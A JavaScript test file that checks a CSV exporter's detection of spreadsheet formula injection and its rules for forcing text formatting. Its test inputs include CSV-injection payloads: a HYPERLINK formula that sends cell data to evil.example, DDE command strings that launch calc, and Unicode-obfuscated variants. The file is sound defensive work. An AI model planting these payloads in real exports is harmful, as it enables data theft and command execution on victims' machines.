import { isFormulaLike, needsTextFormat, unneutralise } from "../../../src/engine/csv/injection";

describe("isFormulaLike", () => {
  it.each([
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dSUM(A1)", // full-width ＝
    "\uff0b1+1", // ＋
    "\uff0d1+1", // －
    "\uff20SUM(A1)", // ＠
    "\u3000=1+1", // ideographic space
    "\u200b=1+1", // zero-width space
    "\u200d\u2060+1", // zero-width joiner, word joiner
    "\ufeff@A1", // BOM inside a field
    "\u00a0 =1",
  ])("flags %j", (text) => expect(isFormulaLike(text)).toBe(true));

  it.each(["Acme", "a=b", "Deal - 2", "", "شركة النور", "1st floor", " Acme"])(
    "leaves %j",
    (text) => expect(isFormulaLike(text)).toBe(false)
  );
});

describe("needsTextFormat", () => {
  // What Excel would turn into something else in a General cell: it must be written as text.
  it.each([
    "=1+1",
    "\uff1d1",
    "1/2",
    "Mar 5",
    "March 2024",
    "12:30 PM",
    "$100",
    "€5",
    "00123",
    "1e5",
    "TRUE",
    "false",
    "#N/A",
    "#VALUE!",
    "(5)",
    "12%",
    "'quoted",
    "٠١٢٣",
    "  ",
  ])("%j", (text) => expect(needsTextFormat(text)).toBe(true));

  it.each(["Acme Corp", "José García €", "Marketing", "N/A", "#1 customer", "Q3 deal"])(
    "not %j",
    (text) => expect(needsTextFormat(text)).toBe(false)
  );
});

describe("unneutralise", () => {
  it("drops an old import's quote prefix", () => {
    expect(unneutralise("'=1+1")).toBe("=1+1");
    expect(unneutralise("plain")).toBe("plain");
  });
});
